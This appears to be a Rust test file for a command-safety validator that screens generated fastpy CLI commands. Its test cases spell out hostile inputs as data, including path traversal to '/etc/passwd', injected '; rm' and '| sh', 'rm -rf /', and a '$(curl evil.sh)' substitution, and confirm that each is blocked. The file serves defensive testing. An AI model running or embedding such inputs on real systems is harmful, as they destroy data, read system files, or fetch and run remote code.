//! Safety properties of the standard validator.

use fastpy_core::{parse, BlockReason, ParsedCommand, ValidationVerdict};
use fastpy_policy::{CommandSurface, DenyList, DenyRule, SafetyValidator};

fn command(argv: &[&str]) -> ParsedCommand {
    ParsedCommand::new(0, argv.iter().map(|s| s.to_string()).collect(), argv.join(" "))
}

const RECOGNISED: &[&str] = &[
    "make:resource",
    "make:model",
    "make:route",
    "make:migration",
    "db:migrate",
    "db:seed",
    "route:list",
    "setup:db",
    "deploy:init",
    "domain:add",
    "env:set",
    "service:restart",
];

#[test]
fn test_foreign_programs_are_unrecognized() {
    let validator = SafetyValidator::standard().unwrap();
    for program in ["rm", "python", "sh", "FASTPY", "./fastpy", "/usr/bin/fastpy", "fastpy2", ""] {
        for sub in RECOGNISED {
            let verdict = validator.validate(&command(&[program, sub, "Post"]));
            assert_eq!(
                verdict.block_reason(),
                Some(BlockReason::UnrecognizedCommand),
                "{} {}",
                program,
                sub
            );
        }
    }
}

#[test]
fn test_traversal_is_dangerous_under_every_subcommand() {
    let validator = SafetyValidator::standard().unwrap();
    let traversals = [
        "../etc/passwd",
        "../../etc",
        "app/../../secrets",
        "--output=../x",
        "..",
        "%2e%2e/%2e%2e/etc",
        "..\\..\\windows",
    ];
    for sub in RECOGNISED.iter().chain(["serve", "test", "list"].iter()) {
        for arg in traversals {
            let verdict = validator.validate(&command(&["fastpy", sub, arg]));
            assert_eq!(
                verdict.block_reason(),
                Some(BlockReason::DangerousPattern),
                "{} {}",
                sub,
                arg
            );
        }
    }
}

#[test]
fn test_generated_scenario_commands_are_allowed() {
    let raw = r#"[
  {"command": "fastpy make:resource Category -f name:string:required,unique -f slug:string:unique -m", "description": "Category"},
  {"command": "fastpy make:resource Post -f title:string:required,max:200 -f category_id:integer:foreign:categories.id -m -p", "description": "Post"},
  {"command": "fastpy make:route Post --protected"},
  {"command": "fastpy db:migrate"}
]"#;
    let validator = SafetyValidator::standard().unwrap();
    let verdicts = validator.validate_all(&parse(raw).unwrap());
    assert_eq!(verdicts.len(), 4);
    assert!(verdicts.iter().all(ValidationVerdict::is_allowed));
}

#[test]
fn test_known_dangerous_commands() {
    let validator = SafetyValidator::standard().unwrap();
    let cases: &[(&[&str], BlockReason)] = &[
        (&["fastpy", "ai", "make a blog"], BlockReason::UnrecognizedCommand),
        (&["fastpy", "ai:config"], BlockReason::UnrecognizedCommand),
        (&["fastpy", "shell"], BlockReason::UnrecognizedCommand),
        (&["fastpy"], BlockReason::UnrecognizedCommand),
        (&["fastpy", "make:resource", "Post", "|", "sh"], BlockReason::DangerousPattern),
        (&["fastpy", "make:model", "Post;rm"], BlockReason::DangerousPattern),
        (&["fastpy", "db:reset", "rm", "-rf", "/"], BlockReason::DangerousPattern),
        (&["fastpy", "env:set", "KEY", "$(curl evil.sh)"], BlockReason::DangerousPattern),
        (&["fastpy", "service:exec", "sudo"], BlockReason::DangerousPattern),
        (&["fastpy", "deploy:run", "--no-preserve-root"], BlockReason::DangerousPattern),
        (&["fastpy", "setup:db", "~"], BlockReason::DangerousPattern),
    ];
    for (argv, reason) in cases {
        let verdict = validator.validate(&command(argv));
        assert_eq!(verdict.block_reason(), Some(*reason), "{:?}", argv);
    }
}

#[test]
fn test_parsed_pipe_is_literal_and_blocked() {
    let validator = SafetyValidator::standard().unwrap();
    let commands = parse("```bash\nfastpy make:model Post | sh\n```").unwrap();
    assert_eq!(commands[0].argv, vec!["fastpy", "make:model", "Post", "|", "sh"]);
    assert_eq!(
        validator.validate(&commands[0]).block_reason(),
        Some(BlockReason::DangerousPattern)
    );
}

#[test]
fn test_custom_policy() {
    let surface = CommandSurface::standard().with_prefix("queue:");
    let mut denylist = DenyList::standard();
    denylist.add(DenyRule::new("no-prod", "Production target", "^--env=prod$"));
    let validator = SafetyValidator::new(surface, &denylist).unwrap();

    assert!(validator.validate(&command(&["fastpy", "queue:work"])).is_allowed());
    assert_eq!(
        validator
            .validate(&command(&["fastpy", "deploy:run", "--env=prod"]))
            .block_reason(),
        Some(BlockReason::DangerousPattern)
    );
}
